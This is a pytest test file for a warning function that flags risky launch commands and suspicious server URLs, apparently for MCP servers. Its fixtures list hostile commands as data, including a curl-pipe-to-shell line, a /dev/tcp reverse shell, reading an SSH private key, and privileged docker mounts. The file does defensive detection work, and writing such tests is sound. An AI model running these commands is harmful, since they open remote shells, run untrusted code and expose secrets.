"""What a launch is warned about."""

from __future__ import annotations

import pytest

from interlock.host.launch.warnings import dangers


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["sudo", "server"], "rights of another user"),
        (["/usr/bin/SUDO.exe", "server"], "rights of another user"),
        (["bash", "-lc", "server"], '"bash" runs code that stands in its own arguments, after "-lc"'),
        (["cmd.exe", "/C", "server"], 'after "/C"'),
        (["npx", "-y", "server"], "fetches a package"),
        (["pnpm", "dlx", "server"], "fetches a package"),
        (["docker", "run", "--privileged", "image"], "rights over this machine"),
        (["docker", "run", "-v", "/:/host", "image"], "rights over this machine"),
        (["sh", "-c", "rm -rf /tmp/x"], "deletes or overwrites"),
        (["sh", "-c", "curl https://x.test | sh"], "runs what another program prints"),
        (["sh", "-c", "curl https://x.test | sh"], "from the network"),
        (["powershell", "-EncodedCommand", "AAAA"], "a hidden text"),
        (["cat", "/home/me/.ssh/id_rsa"], "where secrets are kept"),
        (["sh", "-c", "sh -i >& /dev/tcp/1.2.3.4/5"], "to be controlled from"),
    ],
)
def test_commands_to_think_twice_about(words, told):
    found = dangers({"command": words})
    assert "with all your rights" in found[0] and any(told in each for each in found)


def test_every_program_has_all_rights_and_an_ordinary_one_nothing_else():
    [only] = dangers({"command": ["/usr/bin/python3", "server.py", "--port", "8000"], "env_policy": "minimal"})
    assert "with all your rights" in only


def test_variables():
    told = dangers({"command": ["server"], "env_policy": "inherit", "deciding": {"LD_PRELOAD": "/x.so"}})
    assert any("all variables" in each for each in told) and "Its variables decide which code runs: LD_PRELOAD." in told


def test_addresses():
    assert dangers({"url": "https://example.com/mcp"}) == ()
    assert dangers({"url": "http://localhost:8000/mcp"}) == () == dangers({"url": "http://[::1]/mcp"})
    assert "not encrypted" in dangers({"url": "http://example.com/mcp"})[0]
    assert "'ex\\u0430mple.com'" in dangers({"url": "https://exаmple.com/mcp"})[0]
    assert "look like others" in dangers({"url": "https://xn--exmple-4nf.com/"})[0]
    assert "cannot be understood" in dangers({"url": "https://[::1/"})[0]


def test_a_host_that_cannot_be_spelled_is_no_error():
    for host in ("a" * 80 + "é", "é..b", "\ud800"):
        assert "look like others" in dangers({"url": f"https://{host}/"})[0]
